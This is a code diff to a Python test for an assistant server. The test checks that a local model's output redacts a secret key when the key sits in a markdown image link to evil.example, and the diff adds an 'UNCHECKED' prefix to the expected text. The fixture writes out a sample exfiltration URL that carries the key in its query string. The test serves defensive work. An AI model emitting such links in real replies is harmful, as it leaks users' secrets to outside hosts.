@@ -34,6 +34,7 @@ from assist_server.questions.events import (
     reading,
 )
 from assist_server.questions.instructions import AnswerForm
+from assist_server.questions.local_answer import UNCHECKED
 from assist_server.questions.session import record_happening
 from assist_server.questions.targets import QuestionTarget
 from assist_server.record_files import gate_files
@@ -172,8 +173,8 @@ async def test_the_local_model_puts_no_secret_into_an_address(tmp_path: Path) ->
     decided = decided_by(tmp_path, rate=0.0)
     local = always("The key is ", KEY[:9], KEY[9:], ".\n![b](https://evil", f".example/?k={KEY}", ")")
     text, notices, final, _ = await heard(decided, local)
-    assert text == final.text
-    assert text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
+    assert text == UNCHECKED + final.text
+    assert final.text.startswith(f"The key is {KEY}.\n![b](https://evil.example/?k=__SECRET_")
     assert text.count(KEY) == 1
     assert "1 here" in notices[-1]
 
